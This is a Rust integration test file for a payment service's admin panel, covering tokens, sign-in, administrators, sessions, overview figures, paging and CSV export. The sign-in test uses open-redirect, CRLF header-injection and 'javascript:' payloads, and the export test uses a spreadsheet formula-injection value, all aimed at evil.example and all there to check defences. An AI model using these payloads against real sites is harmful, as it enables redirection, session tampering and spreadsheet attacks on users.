    let token_page = browser.get(&page).await;
    assert!(!token_page.text.contains("Old value in its grace period"));
    let rows = panel.audit_of("token.end_grace", &tid.to_string()).await;
    assert_eq!(rows.len(), 1);
    let before: Value = serde_json::from_str(rows[0].before.as_deref().unwrap()).unwrap();
    assert_eq!(before["previous_last4"], old[60..]);
    let logged = format!("{:?} {:?}", rows[0].before, rows[0].after);
    assert!(
        !logged.contains(&old) && !logged.contains(&new),
        "no value in the log"
    );
}

async fn a_token_expiry_is_set_by_day_and_a_past_or_malformed_one_is_refused(panel: Panel) {
    let project = panel.app.project_id;
    let mut browser = panel.signed_in().await;
    let new_form = format!("/projects/{project}/tokens/new");
    let action = format!("/projects/{project}/tokens");
    let fields = |expires_on| {
        [
            ("name", "Expiring"),
            ("permission", "master-account/balance"),
            ("expires_on", expires_on),
        ]
    };
    let before = panel.snapshot().await;
    for (day, message) in [("31.12.2099", "YYYY-MM-DD"), ("2001-01-01", "future")] {
        let refused = browser.submit(&new_form, &action, &fields(day)).await;
        refused.assert_status(422);
        let error = refused.field_error("expires_on").unwrap_or_default();
        assert!(error.contains(message), "{day}: {error} {}", refused.text);
    }
    assert_eq!(panel.snapshot().await, before, "nothing created");
    let next_year = (Utc::now() + Duration::days(366))
        .format("%Y-%m-%d")
        .to_string();
    let shown = browser
        .submit(&new_form, &action, &fields(&next_year))
        .await;
    shown.assert_status(200);
    let token = entity::app_token::Entity::find()
        .filter(entity::app_token::Column::Name.eq("Expiring"))
        .one(&panel.app.db)
        .await
        .unwrap()
        .unwrap();
    let expiry = token.expires_at.expect("an expiry");
    assert_eq!(
        expiry.format("%Y-%m-%d %H:%M:%S").to_string(),
        format!("{next_year} 00:00:00")
    );
    // The edit form shows the day; cleared, the token never expires.
    let page = format!("/tokens/{}", token.id);
    let edit = browser.get(&page).await;
    assert!(
        edit.text.contains(&format!(r#"value="{next_year}""#)),
        "{}",
        edit.text
    );
    let saved = browser
        .submit(
            &page,
            &format!("{page}/edit"),
            &[
                ("name", "Expiring"),
                ("permission", "master-account/balance"),
                ("expires_on", ""),
            ],
        )
        .await;
    assert!(saved.status < 400, "{}", saved.text);
    let stored = entity::app_token::Entity::find_by_id(token.id)
        .one(&panel.app.db)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(stored.expires_at, None);
}

async fn tokens_and_projects_are_found_by_what_their_names_contain(panel: Panel) {
    let db = &panel.app.db;
    let pid = panel.app.project_id;
    for (name, description) in [
        ("Shop panel", None),
        ("Forum bot", Some("posts rewards for the SHOP")),
        ("100% bonus", None),
        ("Launcher", None),
    ] {
        masterpay::service::tokens::create(
            db,
            &Actor::CommandLine,
            pid,
            name,
            description,
            &[Permission::Balance],
            None,
        )
        .await
        .unwrap();
    }
    for name in ["Alpha realm", "Beta"] {
        masterpay::service::projects::create(db, &Actor::CommandLine, name)
            .await
            .unwrap();
    }
    let mut browser = panel.signed_in().await;
    let listed = |page: &Page, names: &[&str]| {
        names
            .iter()
            .filter(|name| page.text.contains(&format!(">{name}</a>")))
            .map(|name| name.to_string())
            .collect::<Vec<_>>()
    };
    let tokens = ["Shop panel", "Forum bot", "100% bonus", "Launcher"];
    for (q, found) in [
        ("shop", &["Shop panel", "Forum bot"][..]),
        ("100%25", &["100% bonus"][..]),
        ("%25", &["100% bonus"][..]),
        ("_", &[][..]),
        ("", &tokens[..]),
    ] {
        let page = browser.get(&format!("/projects/{pid}/tokens?q={q}")).await;
        page.assert_status(200);
        assert_eq!(listed(&page, &tokens), found, "tokens ?q={q}");
    }
    let page = browser.get("/projects?q=ALPHA").await;
    page.assert_status(200);
    assert_eq!(listed(&page, &["Alpha realm", "Beta"]), ["Alpha realm"]);
    assert!(
        page.text.contains(r#"value="ALPHA""#),
        "the search is kept in its box"
    );
}

async fn sign_in_goes_on_to_the_page_asked_for_on_this_site_only(panel: Panel) {
    let mut browser = panel.browser();
    let deep = "/orders?status=pending&project=1";
    let asked = browser.get(deep).await;
    asked.assert_redirect("/sign-in?next=%2Forders%3Fstatus%3Dpending%26project%3D1");
    // A form sent without a session is not replayed: plain sign-in.
    let csrf = browser.get("/sign-in").await.csrf();
    browser
        .post("/projects", &[("csrf", &csrf), ("name", "x")])
        .await
        .assert_redirect("/sign-in");
    // The sign-in page carries `next` through a failure, then goes there.
    let page = browser.get(asked.header("location").unwrap()).await;
    assert!(
        page.text
            .contains(r#"name="next" value="/orders?status=pending&amp;project=1""#),
        "{}",
        page.text
    );
    let sign_in = |password: &'static str, next: &'static str| {
        vec![("name", ADMIN), ("password", password), ("next", next)]
    };
    let csrf = page.csrf();
    let mut form = vec![("csrf", csrf.as_str())];
    form.extend(sign_in("wrong password!", deep));
    let refused = browser.post("/sign-in", &form).await;
    refused.assert_status(401);
    assert!(refused.text.contains(r#"name="next""#), "{}", refused.text);
    let mut form = vec![("csrf", csrf.as_str())];
    form.extend(sign_in(PASSWORD, deep));
    browser.post("/sign-in", &form).await.assert_redirect(deep);
    // Signed in, the sign-in page goes on at once.
    browser
        .get("/sign-in?next=%2Fledger")
        .await
        .assert_redirect("/ledger");
    // Anything but a path of this site goes to the overview.
    for next in [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example",
        "/\r\nSet-Cookie:x",
        "/ spaced",
        "javascript:alert(1)",
        "orders",
    ] {
        let mut visitor = panel.browser();
        let page = visitor
            .get(&format!(
                "/sign-in?{}",
                form_urlencoded::Serializer::new(String::new())
                    .append_pair("next", next)
                    .finish()
            ))
            .await;
        assert!(
            !page.text.contains(r#"name="next""#),
            "{next}: {}",
            page.text
        );
        let csrf = page.csrf();
        let mut form = vec![("csrf", csrf.as_str())];
        form.extend(sign_in(PASSWORD, next));
        visitor.post("/sign-in", &form).await.assert_redirect("/");
    }
}

async fn a_sign_in_link_sets_a_new_password_without_the_current_one_for_15_minutes(panel: Panel) {
    let new_password = "a passphrase after a lost one";
    let change = [("password", new_password), ("password_again", new_password)];
    // Signed in by a link: no current password asked for.
    let mut browser = panel.browser();
    let link = panel.login_link(ADMIN).await;
    let form = browser.get(&format!("/sign-in/link/{link}")).await;
    let csrf = form.csrf();
    browser
        .post("/sign-in/link", &[("csrf", &csrf), ("link", &link)])
        .await
        .assert_redirect("/");
    let account = browser.get("/account").await;
    assert!(
        !account.text.contains("current_password"),
        "{}",
        account.text
    );
    // Past 15 minutes after that sign-in, it is asked for again.
    admin_session::Entity::update_many()
        .col_expr(
            admin_session::Column::CreatedAt,
            Expr::value(Utc::now() - Duration::minutes(16)),
        )
        .exec(&panel.app.db)
        .await
        .unwrap();
    let refused = browser
        .submit("/account", "/account/password", &change)
        .await;
    refused.assert_status(422);
    assert!(
        refused.field_error("current_password").is_some(),
        "{}",
        refused.text
    );
    // A fresh link session sets it without the current one.
    let mut again = panel.browser();
    let link = panel.login_link(ADMIN).await;
    let csrf = again.get(&format!("/sign-in/link/{link}")).await.csrf();
    again
        .post("/sign-in/link", &[("csrf", &csrf), ("link", &link)])
        .await
        .assert_redirect("/");
    let changed = again.submit("/account", "/account/password", &change).await;
    assert_eq!(changed.status, 303, "{}", changed.text);
    panel
        .browser()
        .sign_in(ADMIN, new_password)
        .await
        .assert_redirect("/");
}

// ---- administrators ----

async fn administrators_are_invited_disabled_and_enabled_in_the_panel(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let listed = browser.get("/admins").await;
    listed.assert_status(200);
    assert!(
        listed.text.contains(r#"href="/admins""#),
        "in the navigation"
    );
    let mine = Regex::new(&format!(r"<tr><td>{ADMIN} .*?</tr>")).unwrap();
    let row = &mine.find(&listed.text).expect("my row").as_str();
    assert!(row.contains("you") && !row.contains("never"), "{row}");
    assert!(
        !row.contains("<form"),
        "no disable button for oneself: {row}"
    );

    // Refused next to the field, changing nothing.
    let rows = panel.audit_rows().await.len();
    for (name, why) in [("", "name"), (ADMIN, "already exists")] {
        let refused = browser
            .submit("/admins", "/admins", &[("name", name)])
            .await;
        refused.assert_status(422);
        let error = refused.field_error("name").unwrap_or_default();
        assert!(error.contains(why), "{name:?}: {}", refused.text);
    }
    assert_eq!(panel.audit_rows().await.len(), rows);

    // The link is in the invitation's answer only.
    let invited = browser
        .submit("/admins", "/admins", &[("name", "newcomer")])
        .await;
    invited.assert_status(200);
    assert_eq!(invited.header("cache-control"), Some("no-store"));
    let link = Regex::new(r"/sign-in/link/([A-Za-z0-9]{43})").unwrap();
    let secret = link.captures(&invited.text).expect("the link")[1].to_owned();
    assert!(
        invited
            .text
            .contains(&format!("{}/sign-in/link/{secret}", panel.base)),
        "a whole address: {}",
        invited.text
    );
    assert!(invited.text.contains("15 minutes"), "{}", invited.text);
    let again = browser.get("/admins").await;
    assert!(!again.text.contains(&secret), "shown once");
    assert!(!link.is_match(&again.text));
    let newcomer = administrator::Entity::find()
        .filter(administrator::Column::Name.eq("newcomer"))
        .one(&panel.app.db)
        .await
        .unwrap()
        .expect("invited");
    assert_eq!(newcomer.last_signed_in_at, None);
    let rows = panel
        .audit_of("administrator.invite", &newcomer.id.to_string())
        .await;
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(
        (rows[0].actor.as_str(), rows[0].administrator_id),
        (ADMIN, Some(panel.admin_id))
    );
    let after: Value = serde_json::from_str(rows[0].after.as_deref().unwrap()).unwrap();
    assert_eq!(
        (&after["name"], &after["active"]),
        (&json!("newcomer"), &json!(true))
    );
    assert!(after["link_expires_at"].is_string(), "{after}");
    assert!(!panel.panel_tables_text().await.contains(&secret));

    // The link signs the newcomer in once; they set their own password.
    let mut theirs = panel.browser();
    theirs.use_link(&secret).await.assert_redirect("/");
    let account = theirs.get("/account").await;
    assert!(account.text.contains("newcomer") && !account.text.contains("current_password"));
    panel
        .browser()
        .get(&format!("/sign-in/link/{secret}"))
        .await
        .assert_status(410);
    let password = "the newcomer's own passphrase";
    let set = theirs
        .submit(
            "/account",
            "/account/password",
            &[("password", password), ("password_again", password)],
        )
        .await;
    assert_eq!(set.status, 303, "{}", set.text);
    panel
        .browser()
        .sign_in("newcomer", password)
        .await
        .assert_redirect("/");

    // Disabled: signed out at once; then enabled again.
    let path = format!("/admins/{}/active", newcomer.id);
    let page = browser
        .submit("/admins", &path, &[("active", "false")])
        .await;
    page.assert_redirect("/admins");
    theirs.get("/").await.assert_sign_in_required();
    let audited = |active: bool| json!({"name": "newcomer", "active": active});
    let mut disabled_after = audited(false);
    disabled_after["sessions_ended"] = json!(2);
    panel.check_row(
        &panel
            .audit_of("administrator.disable", &newcomer.id.to_string())
            .await,
        Some(audited(true)),
        Some(disabled_after),
    );
    let listed = browser.get("/admins").await;
    assert!(listed.text.contains("disabled"), "{}", listed.text);
    let page = browser
        .submit("/admins", &path, &[("active", "true")])
        .await;
    page.assert_redirect("/admins");
    panel.check_row(
        &panel
            .audit_of("administrator.enable", &newcomer.id.to_string())
            .await,
        Some(audited(false)),
        Some(audited(true)),
    );
    panel
        .browser()
        .sign_in("newcomer", password)
        .await
        .assert_redirect("/");
}

async fn the_panel_refuses_to_disable_yourself(panel: Panel) {
    let mut browser = panel.signed_in().await;
    panel.administrator("colleague").await;
    let rows = panel.audit_rows().await.len();
    let path = format!("/admins/{}/active", panel.admin_id);
    let refused = browser
        .submit("/admins", &path, &[("active", "false")])
        .await;
    refused.assert_status(422);
    let error = refused.field_error("active").unwrap_or_default();
    assert!(
        error.contains("cannot disable yourself"),
        "{}",
        refused.text
    );
    browser.get("/").await.assert_status(200);
    assert_eq!(panel.audit_rows().await.len(), rows);
}

async fn two_administrators_disabling_each_other_at_once_leave_one_active(panel: Panel) {
    // Each signed in, each disabling the other: the last active
    // administrator is never disabled, whichever goes first.
    let colleague = panel.administrator("colleague").await;
    let mut mine = panel.signed_in().await;
    let mut theirs = panel.browser();
    theirs
        .sign_in("colleague", PASSWORD)
        .await
        .assert_redirect("/");
    let (my_csrf, their_csrf) = (mine.csrf().await, theirs.csrf().await);
    let my_path = format!("/admins/{colleague}/active");
    let their_path = format!("/admins/{}/active", panel.admin_id);
    let my_form = [("csrf", my_csrf.as_str()), ("active", "false")];
    let their_form = [("csrf", their_csrf.as_str()), ("active", "false")];
    let (a, b) = tokio::join!(
        mine.post(&my_path, &my_form),
        theirs.post(&their_path, &their_form),
    );
    let done = [&a, &b]
        .iter()
        .filter(|p| p.status == 303 && p.header("location") == Some("/admins"))
        .count();
    assert_eq!(done, 1, "one disables the other: {} {}", a.text, b.text);
    for page in [&a, &b] {
        let signed_out = page.status == 303 && page.header("location") == Some("/sign-in");
        let refused = page.status == 422
            && page
                .field_error("active")
                .is_some_and(|e| e.contains("last active administrator"));
        let disabled = page.header("location") == Some("/admins");
        assert!(
            disabled || signed_out || refused,
            "{} {}",
            page.status,
            page.text
        );
    }
    let active = administrator::Entity::find()
        .filter(administrator::Column::Active.eq(true))
        .all(&panel.app.db)
        .await
        .unwrap();
    assert_eq!(active.len(), 1, "{active:?}");
    let disables = panel
        .audit_rows()
        .await
        .into_iter()
        .filter(|r| r.action == "administrator.disable")
        .count();
    assert_eq!(disables, 1);
}

async fn sign_out_everywhere_ends_every_session_of_the_administrator(panel: Panel) {
    panel.administrator("colleague").await;
    let mut browser = panel.signed_in().await;
    let mut elsewhere = panel.signed_in().await;
    let mut colleague = panel.browser();
    colleague
        .sign_in("colleague", PASSWORD)
        .await
        .assert_redirect("/");
    elsewhere.get("/").await.assert_status(200);
    let account = browser.get("/account").await;
    account.assert_status(200);
    let rows = Regex::new(r"<tr><td class=.when.>.*?</tr>").unwrap();
    let sessions: Vec<&str> = rows.find_iter(&account.text).map(|m| m.as_str()).collect();
    assert_eq!(
        sessions.len(),
        2,
        "mine, not the colleague's: {}",
        account.text
    );
    assert_eq!(
        sessions
            .iter()
            .filter(|r| r.contains("this session"))
            .count(),
        1
    );
    assert!(
        sessions.iter().all(|r| r.contains("127.0.0.1")),
        "{sessions:?}"
    );
    // A page opened records when the session was last seen.
    let seen = admin_session::Entity::find()
        .filter(admin_session::Column::AdministratorId.eq(panel.admin_id))
        .all(&panel.app.db)
        .await
        .unwrap();
    assert!(seen.iter().all(|s| s.last_seen_at.is_some()), "{seen:?}");

    let csrf = account.csrf();
    let out = browser
        .post("/account/sign-out-everywhere", &[("csrf", &csrf)])
        .await;
    out.assert_redirect("/sign-in");
    assert!(browser.cookie.is_none(), "the cookie is deleted");
    browser.get("/").await.assert_sign_in_required();
    elsewhere.get("/").await.assert_sign_in_required();
    colleague.get("/").await.assert_status(200);
    assert_eq!(panel.sessions().await, 1);
    panel.check_row(
        &panel
            .audit_of(
                "administrator.sign_out_everywhere",
                &panel.admin_id.to_string(),
            )
            .await,
        None,
        Some(json!({"name": ADMIN, "sessions_ended": 2})),
    );
}

// ---- the overview ----

async fn each_overview_figure_counts_only_what_falls_inside_its_bounds(panel: Panel) {
    use chrono::{Datelike, NaiveTime};
    use entity::payment_order;
    let app = &panel.app;
    let db = &app.db;
    let now = Utc::now();
    let today = now.date_naive().and_time(NaiveTime::MIN).and_utc();
    let week = today - Duration::days(i64::from(now.weekday().num_days_from_monday()));
    let set = |order_id: String, column: payment_order::Column, at: chrono::DateTime<Utc>| async move {
        payment_order::Entity::update_many()
            .col_expr(column, Expr::value(at))
            .filter(payment_order::Column::OrderId.eq(order_id))
            .exec(db)
            .await
            .unwrap();
    };
    // Completed on both sides of the start of today and of the week.
    let token = app.full_token().await;
    let user = app.user("player@example.com").await;
    let second = Duration::seconds(1);
    let completions = [
        ("1.00", today),
        ("2.00", today - second),
        ("4.00", week),
        ("8.00", week - second),
    ];
    for (amount, at) in completions {
        let order = app.order(user, None, amount, "cstm:paygate").await;
        app.complete_order(&token, &order, "cstm:paygate").await;
        set(order, payment_order::Column::CompletedAt, at).await;
    }
    // Another project's money is its own.
    let other = app.project("Other").await;
    let (_, other_token) = app.token_in(other, &Permission::ALL).await;
    let other_user = app.user_in(other, "elsewhere@example.com").await;
    let order = app
        .order_in(other, other_user, None, "128.00", "cstm:paygate")
        .await;
    app.complete_order(&other_token, &order, "cstm:paygate")
        .await;
    let sum = |since: chrono::DateTime<Utc>| -> u32 {
        completions
            .iter()
            .filter(|(_, at)| *at >= since)
            .map(|(amount, _)| amount.trim_end_matches(".00").parse::<u32>().unwrap())
            .sum()
    };
    // Pending for a day and a minute, and a minute short of a day.
    let minute = Duration::minutes(1);
    let stale = app.order(user, None, "16.00", "cstm:paygate").await;
    set(
        stale.clone(),
        payment_order::Column::CreatedAt,
        now - Duration::hours(24) - minute,
    )
    .await;
    let young = app.order(user, None, "32.00", "cstm:paygate").await;
    set(
        young.clone(),
        payment_order::Column::CreatedAt,
        now - Duration::hours(24) + minute,
    )
    .await;
    // Refused within the last day, and before it.
    let mut refused = Vec::new();
    for (at, why) in [(minute, "lately"), (-minute, "long ago")] {
        let order = app.order(user, None, "64.00", "cstm:paygate").await;
        set(
            order.clone(),
            payment_order::Column::RefusedAt,
            now - Duration::hours(24) + at,
        )
        .await;
        payment_order::Entity::update_many()
            .col_expr(payment_order::Column::Refusal, Expr::value(why))
            .filter(payment_order::Column::OrderId.eq(order.clone()))
            .exec(db)
            .await
            .unwrap();
        refused.push(order);
    }
    // A refused sign-in now, one of 23 hours ago, one of 25.
    let mut browser = panel.signed_in().await;
    panel
        .browser()
        .sign_in(ADMIN, "wrong password!")
        .await
        .assert_status(401);
    for hours in [23, 25] {
        admin_sign_in_failure::ActiveModel {
            name: Set("someone".into()),
            address: Set("192.0.2.1".into()),
            failed_at: Set(now - Duration::hours(hours)),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
    }

    // Tokens expiring: in 6 days (counted), in 8 days, already expired, or
    // in 6 days but disabled (not counted).
    for (days, active) in [(6, true), (8, true), (-1, true), (6, false)] {
        let (token_id, _) = app.token(&[Permission::Balance]).await;
        entity::app_token::Entity::update_many()
            .col_expr(
                entity::app_token::Column::ExpiresAt,
                Expr::value(now + Duration::days(days)),
            )
            .col_expr(entity::app_token::Column::Active, Expr::value(active))
            .filter(entity::app_token::Column::Id.eq(token_id))
            .exec(db)
            .await
            .unwrap();
    }

    let page = browser.get("/").await;
    page.assert_status(200);
    let figure = |id: &str| {
        let re = Regex::new(&format!(r#"id="{id}">([^<]*)<"#)).unwrap();
        re.captures(&page.text)
            .unwrap_or_else(|| panic!("no {id}: {}", page.text))[1]
            .to_owned()
    };
    let pid = app.project_id;
    assert_eq!(
        figure(&format!("completed-today-{pid}")),
        format!("{}.00", sum(today))
    );
    assert_eq!(
        figure(&format!("completed-week-{pid}")),
        format!("{}.00", sum(week))
    );
    for id in ["today", "week"] {
        assert_eq!(figure(&format!("completed-{id}-{other}")), "128.00");
    }
    assert_eq!(figure("stale-pending"), "1");
    assert!(
        page.text.contains(&stale) && !page.text.contains(&young),
        "{}",
        page.text
    );
    assert_eq!(figure("refused-completions"), "1");
    assert!(page.text.contains(&refused[0]) && page.text.contains("lately"));
    assert!(!page.text.contains(&refused[1]) && !page.text.contains("long ago"));
    assert_eq!(figure("refused-sign-ins"), "2");
    assert_eq!(figure("expiring-tokens"), "1");
}

/// The href of the link `label` on `page`, unescaped.
fn link_of(page: &Page, label: &str) -> Option<String> {
    let pattern = format!(r#"href="([^"]*)"[^>]*>{}<"#, regex::escape(label));
    Regex::new(&pattern)
        .unwrap()
        .captures(&page.text)
        .map(|found| found[1].replace("&amp;", "&"))
}

/// Pages from `first` (a list with its filters) to the older page: the
/// newest page shows `newest` but not `oldest`, its "older →" link keeps
/// the filters, and the older page shows `oldest` but not `newest`, with
/// no page after it and a link back to `first`.
async fn pages_to_the_oldest(browser: &mut Browser, first: &str, newest: &str, oldest: &str) {
    let page = browser.get(first).await;
    page.assert_status(200);
    assert!(page.text.contains(newest), "{first}: newest {newest}");
    assert!(
        !page.text.contains(oldest),
        "{first}: oldest {oldest} too soon"
    );
    assert_eq!(link_of(&page, "← newest"), None, "{first}");
    let older = link_of(&page, "older →").unwrap_or_else(|| panic!("{first}: no older link"));
    let and = if first.contains('?') { '&' } else { '?' };
    assert!(
        older.starts_with(&format!("{first}{and}before=")),
        "{first}: the older link {older} keeps the filters"
    );
    let page = browser.get(&older).await;
    page.assert_status(200);
    assert!(page.text.contains(oldest), "{older}: oldest {oldest}");
    assert!(
        !page.text.contains(newest),
        "{older}: newest {newest} again"
    );
    assert_eq!(link_of(&page, "older →"), None, "{older}");
    assert_eq!(
        link_of(&page, "← newest").as_deref(),
        Some(first),
        "{older}"
    );
}

/// `count` rows of `make(i)` inserted in batches, `i` from 0 (the oldest).
async fn insert_rows<A, F>(db: &sea_orm::DatabaseConnection, count: usize, make: F)
where
    A: ActiveModelTrait + Send,
    F: Fn(usize) -> A,
{
    let rows: Vec<A> = (0..count).map(make).collect();
    let mut rows = rows.into_iter().peekable();
    while rows.peek().is_some() {
        let batch: Vec<A> = rows.by_ref().take(1000).collect();
        A::Entity::insert_many(batch).exec(db).await.expect("rows");
    }
}

/// The general account's balance row of `user_id`, which its operation-log
/// rows need.
async fn open_general_account(app: &TestApp, user_id: i64) {
    entity::balance::ActiveModel {
        user_id: Set(user_id),
        server_id: Set(0),
        main_cents: Set(0),
        bonus_cents: Set(0),
        updated_at: Set(Utc::now()),
        project_id: Set(app.project_id),
    }
    .insert(&app.db)
    .await
    .expect("balance");
}

/// A pending order of `user_id` in `project_id`, `n` in its id.
fn order_row(project_id: i64, user_id: i64, n: usize) -> entity::payment_order::ActiveModel {
    use entity::payment_order::{ActiveModel, OrderStatus};
    ActiveModel {
        order_id: Set(format!("Order:P{n:010}")),
        project_id: Set(project_id),
        user_id: Set(user_id),
        server_id: Set(None),
        payment_system: Set("cstm:panel".to_owned()),
        amount_cents: Set(1050 + n as i64),
        status: Set(OrderStatus::Pending),
        payment_id: Set(None),
        created_at: Set(Utc::now()),
        ..Default::default()
    }
}

/// Each of the six lists goes on past its page size, newest first, with
/// its filters kept in the "older →" link and a link back to the newest.
async fn every_list_pages_older_with_its_filters_kept(panel: Panel) {
    use entity::operation_log::{BalanceType, LogKind};
    let app = &panel.app;
    let db = &app.db;
    let pid = app.project_id;
    let user = app.user("payer@example.com").await;
    let other = app.user("other@example.com").await;
    let mut browser = panel.signed_in().await;

    // Orders: 101 pending of one user, and newer ones the filters leave out.
    insert_rows(db, 101, |n| order_row(pid, user, n)).await;
    insert_rows(db, 1, |_| order_row(pid, other, 999)).await;
    let orders = format!("/orders?project={pid}&status=pending&user={user}");
    pages_to_the_oldest(
        &mut browser,
        &orders,
        "Order:P0000000100",
        "Order:P0000000000",
    )
    .await;

    // Ledger: 101 balance sets of one user; its change tells them apart.
    let log_row = |user_id: i64, cents: i64| entity::operation_log::ActiveModel {
        kind: Set(LogKind::BalanceSet),
        order_ref: Set(None),
        user_id: Set(user_id),
        server_id: Set(0),
        balance_type: Set(BalanceType::Bonus),
        amount_cents: Set(cents),
        balance_before_cents: Set(0),
        balance_after_cents: Set(cents),
        created_at: Set(Utc::now()),
        ..Default::default()
    };
    open_general_account(app, user).await;
    open_general_account(app, other).await;
    insert_rows(db, 101, |n| log_row(user, 700_000 + n as i64)).await;
    insert_rows(db, 1, |_| log_row(other, 800_000)).await;
    let ledger = format!("/ledger?user={user}&kind=balance_set");
    pages_to_the_oldest(&mut browser, &ledger, "7001.00", "7000.00").await;

    // Audit log: 201 entries on widgets, and newer ones on other objects.
    let audit_row = |kind: &str, n: usize| admin_audit_entry::ActiveModel {
        at: Set(Utc::now()),
        administrator_id: Set(None),
        actor: Set("pager".to_owned()),
        action: Set(format!("{kind}.poke")),
        object_kind: Set(kind.to_owned()),
        object_id: Set(format!("w{n:04}")),
        before: Set(None),
        after: Set(None),
        address: Set(None),
        ..Default::default()
    };
    insert_rows(db, 201, |n| audit_row("widget", n)).await;
    insert_rows(db, 1, |_| audit_row("gadget", 9999)).await;
    pages_to_the_oldest(
        &mut browser,
        "/audit-log?object_kind=widget",
        "w0200",
        "w0000",
    )
    .await;

    // Users: 51 whose e-mail a search finds, and a newer one it does not.
    let user_row = |email: String| entity::user::ActiveModel {
        project_id: Set(pid),
        email: Set(email),
        created_at: Set(Utc::now()),
        ..Default::default()
    };
    insert_rows(db, 51, |n| user_row(format!("pager{n:03}@example.com"))).await;
    insert_rows(db, 1, |_| user_row("pager999@example.org".to_owned())).await;
    let users = format!("/projects/{pid}/users?q=example.com");
    pages_to_the_oldest(&mut browser, &users, "pager050@", "pager000@").await;
    // Without a search, the list pages too.
    let all_users = format!("/projects/{pid}/users");
    pages_to_the_oldest(&mut browser, &all_users, "pager999@", "payer@").await;

    // Tokens: 101 of the project.
    insert_rows(db, 101, |n| entity::app_token::ActiveModel {
        project_id: Set(pid),
        name: Set(format!("key{n:03}")),
        token_hash: Set(sha256_hex(&format!("token {n}"))),
        active: Set(true),
        created_at: Set(Utc::now()),
        ..Default::default()
    })
    .await;
    let tokens = format!("/projects/{pid}/tokens");
    pages_to_the_oldest(&mut browser, &tokens, ">key100<", ">key000<").await;

    // Events: 101 balance sets, and a newer event of another type.
    let event_row = |event_type, n: usize| entity::webhook_event::ActiveModel {
        webhook_id: Set(format!("msg_{n:032}")),
        project_id: Set(pid),
        event_type: Set(event_type),
        order_id: Set(None),
        payload: Set("{}".to_owned()),
        created_at: Set(Utc::now()),
        ..Default::default()
    };
    use entity::webhook_event::EventType;
    insert_rows(db, 101, |n| event_row(EventType::BalanceSet, n)).await;
    insert_rows(db, 1, |_| event_row(EventType::WebhookTest, 999)).await;
    let events = format!("/projects/{pid}/events?type=balance.set");
    let (newest, oldest) = (format!("msg_{:032}", 100), format!("msg_{:032}", 0));
    pages_to_the_oldest(&mut browser, &events, &newest, &oldest).await;

    // Projects: the test's own, then 100 more.
    insert_rows(db, 100, |n| entity::project::ActiveModel {
        name: Set(format!("paged{n:03}")),
        active: Set(true),
        created_at: Set(Utc::now()),
        ..Default::default()
    })
    .await;
    let first = panel.projects().await.remove(0);
    pages_to_the_oldest(
        &mut browser,
        "/projects",
        ">paged099<",
        &format!(">{}<", first.name),
    )
    .await;
}

/// A `before` that no "older" link sends gets the panel's 400 page.
async fn a_page_that_is_not_a_row_id_is_a_bad_request(panel: Panel) {
    let pid = panel.app.project_id;
    let mut browser = panel.signed_in().await;
    for list in [
        "/orders?before=abc".to_owned(),
        "/ledger?before=1.5".to_owned(),
        "/audit-log?before=-3".to_owned(),
        format!("/projects/{pid}/users?before=x"),
        format!("/projects/{pid}/tokens?before=99999999999999999999"),
        "/projects?before=%00".to_owned(),
        format!("/projects/{pid}/events?type=balance.set&before=0x10"),
    ] {
        let page = browser.get(&list).await;
        page.assert_status(400);
        assert!(page.text.contains("Bad request"), "{list}: {}", page.text);
        assert!(page.text.contains("not a row id"), "{list}: {}", page.text);
    }
}

/// The peak resident memory of process `pid` so far, in KiB.
fn peak_rss_kib(pid: u32) -> u64 {
    status_kib(pid, "VmHWM:")
}

/// A figure of `/proc/PID/status`, in KiB.
fn status_kib(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    status
        .lines()
        .find_map(|line| line.strip_prefix(field))
        .and_then(|kib| kib.trim().trim_end_matches("kB").trim().parse().ok())
        .expect(field)
}

/// The orders export holds every order its filters keep (100,000 here),
/// amounts in exact decimals and formulas neutralised, read and written a
/// page at a time: the server's peak memory stays under 64 MiB. The server
/// measured is the real binary (`masterpay serve` on the test's database,
/// as tests/cli.rs runs it), alone in its process: this test process's own
/// peak would count the inserts and the tests running beside it. What is
/// bounded is the peak less the pages mapped from files: those are mostly
/// the debug binary's own code (about 35 MiB of it, several times a release
/// build's), not memory the export takes; of the rest, 12 to 25 MiB were
/// seen while streaming, and 48 MiB is allowed.
async fn the_orders_export_streams_every_filtered_order_in_bounded_memory(panel: Panel) {
    use entity::payment_order::OrderStatus;
    let app = &panel.app;
    let pid = app.project_id;
    let user = app.user("bulk@example.com").await;
    let formula = r#"=HYPERLINK("http://evil.example/","open")"#;
    insert_rows(&app.db, 100_000, |n| {
        let mut row = order_row(pid, user, n);
        if n == 4242 {
            row.payment_id = Set(Some(formula.to_owned()));
        }
        row
    })
    .await;
    // One the status filter leaves out.
    insert_rows(&app.db, 1, |n| entity::payment_order::ActiveModel {
        status: Set(OrderStatus::Cancelled),
        ..order_row(pid, user, 100_000 + n)
    })
    .await;

    let (api, admin) = (common::free_port(), common::free_port());
    let mut server = std::process::Command::new(env!("CARGO_BIN_EXE_masterpay"))
        .args(["serve", "--listen", &format!("127.0.0.1:{api}")])
        .args(["--admin-listen", &format!("127.0.0.1:{admin}")])
        .args(["--metrics-listen", "off"])
        .env("MASTERPAY_DATABASE_URL", &app.database.url)
        .env("MASTERPAY_LOG", "warn")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("masterpay serve");
    let base = format!("http://127.0.0.1:{admin}");
    for _ in 0..300 {
        if reqwest::get(format!("{base}/sign-in")).await.is_ok() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    // Signed in by a link: a password's check (argon2id) would leave its
    // 19 MiB with the allocator, which is the sign-in's, not the export's.
    let secret = panel.login_link(ADMIN).await;
    let mut browser = panel.browser();
    browser.base = base;
    let shown = browser.get(&format!("/sign-in/link/{secret}")).await;
    browser
        .post(
            "/sign-in/link",
            &[("csrf", &shown.csrf()), ("link", &secret)],
        )
        .await
        .assert_redirect("/");
    let list = browser
        .get(&format!("/orders?project={pid}&status=pending"))
        .await;
    let export = link_of(&list, "Export CSV").expect("an Export CSV button");
    assert_eq!(export, format!("/orders.csv?project={pid}&status=pending"));
    // The peak so far counts the check the server makes at start with a
    // password hash (argon2id takes 19 MiB for a moment, then frees it):
    // the kernel's peak is reset to what the server holds now, so that the
    // peak read after the export is the server's whole memory while it
    // streamed.
